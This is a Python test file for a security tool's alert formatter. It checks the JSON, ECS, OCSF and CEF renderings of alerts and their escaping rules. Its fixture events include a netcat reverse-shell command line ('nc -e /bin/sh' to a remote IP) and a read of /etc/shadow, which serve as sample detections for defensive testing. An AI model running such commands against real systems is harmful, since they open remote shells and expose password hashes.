"""JSON, ECS, OCSF and CEF renderings of alerts, with each format's escaping rules."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest

from sentinel.alerts import Alert
from sentinel.outputs.formats import (
    cef_ext_escape,
    cef_header_escape,
    render,
    to_cef,
    to_ecs,
    to_ocsf,
    to_ocsf_activity,
)

T = 1_700_000_000_123_456_789


def _alert(fields: dict[str, Any], **kw: Any) -> Alert:
    base: dict[str, Any] = {
        "rule": "Suspicious thing",
        "priority": "Critical",
        "output": "something happened",
        "output_fields": fields,
        "tags": ["T1059", "container"],
        "hostname": "node-7",
        "time_ns": T,
    }
    base.update(kw)
    return Alert(**base)


EXEC = {
    "evt.type": "execve",
    "proc.name": "nc",
    "proc.pid": 4242,
    "proc.exepath": "/usr/bin/nc",
    "proc.cmdline": "nc -e /bin/sh 10.0.0.1 4444",
    "proc.pname": "bash",
    "proc.ppid": 4000,
    "user.name": "root",
    "user.uid": 0,
    "container.id": "3f2a1b4c5d6e",
    "container.name": "web",
    "container.image.repository": "nginx",
    "container.image.tag": "1.25",
}
OPEN = {"evt.type": "openat", "proc.name": "cat", "fd.name": "/etc/shadow", "user.uid": 0}
CONNECT = {
    "evt.type": "connect",
    "proc.name": "curl",
    "fd.sip": "127.0.0.9",
    "fd.sport": 8443,
    "fd.cip": "127.0.0.1",
    "fd.cport": 50000,
    "fd.l4proto": "tcp",
}


def test_json_is_the_alert_wire_format() -> None:
    a = _alert(EXEC)
    assert json.loads(render(a, "json")) == a.to_dict()


def test_ecs_process_event() -> None:
    doc = to_ecs(_alert(EXEC))
    assert doc["@timestamp"] == "2023-11-14T22:13:20.123456789Z"
    assert doc["event"]["kind"] == "alert"
    assert doc["event"]["category"] == ["process"] and doc["event"]["type"] == ["start"]
    assert doc["event"]["severity"] == 90 and doc["log"]["level"] == "critical"
    assert doc["rule"]["name"] == "Suspicious thing"
    assert doc["process"]["pid"] == 4242
    assert doc["process"]["executable"] == "/usr/bin/nc"
    assert doc["process"]["parent"] == {"name": "bash", "pid": 4000}
    assert doc["user"] == {"name": "root", "id": "0"}
    assert doc["container"] == {
        "id": "3f2a1b4c5d6e",
        "name": "web",
        "image": {"name": "nginx", "tag": ["1.25"]},
    }
    assert doc["tags"] == ["T1059", "container"]
    assert doc["sentinel"]["output_fields"] == EXEC
    assert "file" not in doc and "destination" not in doc


def test_ecs_file_and_network_and_deny() -> None:
    f = to_ecs(_alert(OPEN))
    assert f["event"]["category"] == ["file"] and f["event"]["type"] == ["access"]
    assert f["file"] == {"path": "/etc/shadow", "name": "shadow"}
    n = to_ecs(_alert(CONNECT, action="deny"))
    assert n["event"]["category"] == ["network"]
    assert n["event"]["type"] == ["connection", "start", "denied"]
    assert n["event"]["outcome"] == "failure"
    assert n["destination"] == {"ip": "127.0.0.9", "port": 8443}
    assert n["source"] == {"ip": "127.0.0.1", "port": 50000}
    assert n["network"] == {"transport": "tcp"}


def test_ecs_keeps_null_output_fields() -> None:
    doc = to_ecs(_alert({"evt.type": "execve", "container.id": None}))
    assert doc["sentinel"]["output_fields"] == {"evt.type": "execve", "container.id": None}
    assert "container" not in doc  # but no empty ECS objects


def test_ocsf_detection_finding() -> None:
    doc = to_ocsf(_alert(EXEC))
    assert (doc["class_uid"], doc["category_uid"], doc["activity_id"]) == (2004, 2, 1)
    assert doc["type_uid"] == 200401
    assert doc["time"] == T // 1_000_000
    assert (doc["severity_id"], doc["severity"]) == (5, "Critical")
    assert doc["finding_info"]["title"] == "Suspicious thing"
    assert doc["finding_info"]["analytic"] == {
        "name": "Suspicious thing",
        "type_id": 1,
        "type": "Rule",
    }
    ev = doc["evidences"][0]
    assert ev["process"]["cmd_line"] == "nc -e /bin/sh 10.0.0.1 4444"
    assert ev["process"]["parent_process"] == {"name": "bash", "pid": 4000}
    assert ev["container"]["uid"] == "3f2a1b4c5d6e"
    assert doc["metadata"]["uid"] == doc["finding_info"]["uid"]
    assert doc["metadata"]["version"] == "1.1.0"
    assert "action_id" not in doc


def test_ocsf_activity_classes_with_security_control() -> None:
    p = to_ocsf_activity(_alert(EXEC, action="deny"))
    assert (p["class_uid"], p["activity_id"], p["type_uid"]) == (1007, 1, 100701)
    assert (p["action_id"], p["disposition_id"]) == (2, 2)  # Denied, Blocked
    assert "security_control" in p["metadata"]["profiles"]
    assert p["process"]["name"] == "nc" and p["actor"]["process"]["name"] == "bash"
    f = to_ocsf_activity(_alert(OPEN))
    assert (f["class_uid"], f["activity_id"]) == (1001, 14)
    assert f["file"]["path"] == "/etc/shadow"
    assert (f["action_id"], f["disposition_id"]) == (1, 15)  # Allowed, Detected
    n = to_ocsf_activity(_alert(CONNECT))
    assert n["class_uid"] == 4001 and n["dst_endpoint"] == {"ip": "127.0.0.9", "port": 8443}
    other = to_ocsf_activity(_alert({"evt.type": "something"}))
    assert other["class_uid"] == 2004  # no activity class: a Detection Finding


def test_cef_header_and_extension_escaping() -> None:
    a = _alert(
        {"evt.type": "openat", "fd.name": "/tmp/a=b", "proc.name": "x|y"},
        rule="Rule | with \\ pipes\nand newline",
        output="line1\nline2 a=b back\\slash | pipe",
    )
    cef = to_cef(a)
    assert "\n" not in cef and "\r" not in cef
    parts = re.split(r"(?<!\\)\|", cef)
    assert parts[:4] == ["CEF:0", "Sentinel", "Sentinel", "0.1.0"]
    assert parts[5] == "Rule \\| with \\\\ pipes and newline"
    assert parts[6] == "8"  # Critical (Emergency 10, Alert 9)
    ext = "|".join(parts[7:])
    assert "msg=line1\\nline2 a\\=b back\\\\slash | pipe " in ext
    assert "filePath=/tmp/a\\=b" in ext
    assert f"externalId={a.id}" in ext and f"rt={T // 1_000_000}" in ext
    assert "cs1Label=tags cs1=T1059,container" in ext
    assert "cs2Label" not in ext  # no container id: no label either


def test_cef_escape_functions() -> None:
    assert cef_header_escape("a|b\\c\r\nd") == "a\\|b\\\\c d"
    assert cef_ext_escape("k=v\\x\ny\rz|") == "k\\=v\\\\x\\ny\\rz|"


@pytest.mark.parametrize("fmt", ["json", "ecs", "ocsf", "cef"])
def test_every_format_is_one_line_and_keeps_unicode(fmt: str) -> None:
    a = _alert({"evt.type": "execve", "proc.cmdline": "echo 日本\nü"}, output="é\n")
    line = render(a, fmt)
    assert "\n" not in line
    assert "日本" in line and "é" in line
